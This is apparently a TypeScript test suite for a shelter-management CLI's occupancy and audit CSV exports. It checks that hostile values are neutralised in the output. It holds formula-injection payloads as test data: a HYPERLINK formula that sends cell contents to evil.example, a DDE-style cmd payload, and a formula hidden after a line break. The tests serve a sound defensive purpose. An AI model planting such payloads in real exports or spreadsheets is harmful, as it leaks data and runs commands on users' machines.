/**
 * `harbour export occupancy` and `harbour export audit` through the real
 * command line program against a real database: the counts a coordinator
 * expects, and hostile text (a formula as a shelter code name, as a token
 * subject) neutralised in the file.
 */
import { mkdtempSync, readFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { Role } from '@harbour/domain';
import { buildProgram } from '../apps/cli/src/main';
import { Harbour } from './support/harbour-harness';
import { createReferral, REQUEST_PLACEMENT, smallNetwork } from './support/fixtures';

const HOSTILE_CODE_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"open")';
const HOSTILE_SUBJECT = "@SUM(1+1)*cmd|' /C calc'!A0";

describe('harbour export', () => {
  let h: Harbour;
  let dir: string;
  beforeAll(async () => {
    h = await Harbour.start('export', { worker: false });
    dir = mkdtempSync(join(tmpdir(), 'harbour-export-'));
  });
  afterAll(async () => h?.close());

  /** Runs `harbour <args>` in-process on this test's database; returns stdout and the exit code. */
  async function harbour(...args: string[]): Promise<{ out: string; code: number }> {
    const saved = { url: process.env.DATABASE_URL, code: process.exitCode };
    const write = process.stdout.write;
    let out = '';
    process.env.DATABASE_URL = h.config.DATABASE_URL;
    process.exitCode = 0;
    process.stdout.write = ((chunk: string) => ((out += chunk), true)) as typeof process.stdout.write;
    try {
      await buildProgram().exitOverride().parseAsync(args, { from: 'user' });
      return { out, code: Number(process.exitCode ?? 0) };
    } finally {
      process.stdout.write = write;
      process.env.DATABASE_URL = saved.url;
      process.exitCode = saved.code;
    }
  }

  it('exports occupancy per shelter: beds by status and the referrals waiting for its region, formulas neutralised', async () => {
    const a = await smallNetwork(h, { beds: 3 });
    const b = await smallNetwork(h, { beds: 1 });
    await h.ok(a.coordinator, 'mutation($id: ID!, $c: String!) { updateShelter(id: $id, input: { codeName: $c }) { id } }', {
      id: a.shelterId,
      c: HOSTILE_CODE_NAME,
    });
    // Shelter A: one bed held, one out of service, one free. Shelter B: its only bed held, then two more referrals wait for B's region.
    const held = await createReferral(h, a.officer, { acceptableRegions: [a.regionCode] });
    await h.ok(a.officer, REQUEST_PLACEMENT, { id: held });
    // A bed the hold did not take (the three rooms tie, so which one it took varies).
    const [{ id: freeBed }] = await h.db.query(`SELECT id FROM bed WHERE id = ANY($1::uuid[]) AND status = 'AVAILABLE' ORDER BY id LIMIT 1`, [a.bedIds]);
    await h.ok(a.staff, 'mutation($i: SetBedStatusInput!) { setBedStatus(input: $i) { id } }', {
      i: { bedId: freeBed, status: 'OUT_OF_SERVICE', reason: 'Boiler' },
    });
    for (let i = 0; i < 3; i++) {
      const r = await createReferral(h, b.officer, { acceptableRegions: [b.regionCode] });
      await h.ok(b.officer, REQUEST_PLACEMENT, { id: r });
    }
    const file = join(dir, 'occupancy.csv');
    const run = await harbour('export', 'occupancy', '--out', file);
    expect(run).toEqual({ out: `wrote 2 shelters to ${file}\n`, code: 0 });
    const rows: Record<string, string>[] = parse(readFileSync(file, 'utf8'), { columns: true });
    const byRegion = Object.fromEntries(rows.map((r) => [r.region_code, r]));
    expect(byRegion[a.regionCode]).toEqual({
      code_name: `'${HOSTILE_CODE_NAME}`,
      region_code: a.regionCode,
      status: 'OPEN',
      beds_total: '3',
      beds_free: '1',
      beds_held: '1',
      beds_occupied: '0',
      beds_out_of_service: '1',
      waiting_for_region: '0',
    });
    expect(byRegion[b.regionCode]).toMatchObject({ beds_total: '1', beds_free: '0', beds_held: '1', waiting_for_region: '2' });
    expect(existsSync(`${file}.partial`)).toBe(false);
  });

  it('exports the audit trail with a hostile token subject neutralised, from a date when asked', async () => {
    const hostile = await h.token({ role: Role.COORDINATOR, sub: HOSTILE_SUBJECT });
    await h.ok(hostile, 'mutation { createRegion(code: "EXPORT-1") { code } }');
    // Enough events that the export reads several pages (1000 each).
    await h.db.query(
      `INSERT INTO audit_event (actor, role, action, entity_type, entity_id, at, content_mac)
       SELECT 'bulk-' || g, 'COORDINATOR', 'READ_SHELTER_LOCATION', 'shelter', NULL, now(), repeat('0', 64) FROM generate_series(1, 2100) g`,
    );
    const file = join(dir, 'audit.csv');
    const run = await harbour('export', 'audit', '--out', file);
    expect(run.code).toBe(0);
    const rows: Record<string, string>[] = parse(readFileSync(file, 'utf8'), { columns: true });
    const [{ n }] = await h.db.query('SELECT count(*)::int AS n FROM audit_event');
    expect(run.out).toBe(`wrote ${n} audit events to ${file}\n`);
    expect(rows).toHaveLength(n);
    expect(Object.keys(rows[0])).toEqual(['id', 'at', 'actor', 'role', 'action', 'entity_type', 'entity_id', 'ip', 'chain_seq', 'hash']);
    const region = rows.find((r) => r.entity_id === 'EXPORT-1');
    expect(region).toMatchObject({ actor: `'${HOSTILE_SUBJECT}`, role: 'COORDINATOR', entity_type: 'region' });
    expect(new Date(region!.at).toISOString()).toBe(region!.at);
    // Oldest first, and nothing in the file starts a cell with a formula character.
    expect(rows.map((r) => Number(r.id))).toEqual([...rows.map((r) => Number(r.id))].sort((x, y) => x - y));
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);

    const later = join(dir, 'audit-later.csv');
    expect((await harbour('export', 'audit', '--out', later, '--since', '2999-01-01')).out).toBe(`wrote 0 audit events to ${later}\n`);
    expect(readFileSync(later, 'utf8')).toBe('id,at,actor,role,action,entity_type,entity_id,ip,chain_seq,hash\r\n');
  });

  it('quotes a token subject holding a line break, so a spreadsheet does not start a new row with its formula', async () => {
    // No comma, no quote: only the line break, which used to be written bare.
    const subject = 'ops\n=1+1';
    await h.ok(await h.token({ role: Role.COORDINATOR, sub: subject }), 'mutation { createRegion(code: "EXPORT-LF") { code } }');
    const file = join(dir, 'audit-lf.csv');
    expect((await harbour('export', 'audit', '--out', file)).code).toBe(0);
    const text = readFileSync(file, 'utf8');
    expect(text).toContain(`,"${subject}",COORDINATOR,CREATE_REGION,region,EXPORT-LF,`);
    // A CSV reader gets the subject back whole, in its own row.
    const rows: Record<string, string>[] = parse(text, { columns: true });
    expect(rows.find((r) => r.entity_id === 'EXPORT-LF')?.actor).toBe(subject);
  });

  it('refuses a --since that is not a date, writing nothing', async () => {
    const file = join(dir, 'bad.csv');
    const stderr = process.stderr.write;
    let err = '';
    process.stderr.write = ((c: string) => ((err += c), true)) as typeof process.stderr.write;
    try {
      expect((await harbour('export', 'audit', '--out', file, '--since', 'yesterday')).code).toBe(1);
    } finally {
      process.stderr.write = stderr;
    }
    expect(err).toMatch(/--since "yesterday" is not a date/);
    expect(existsSync(file)).toBe(false);
  });
});
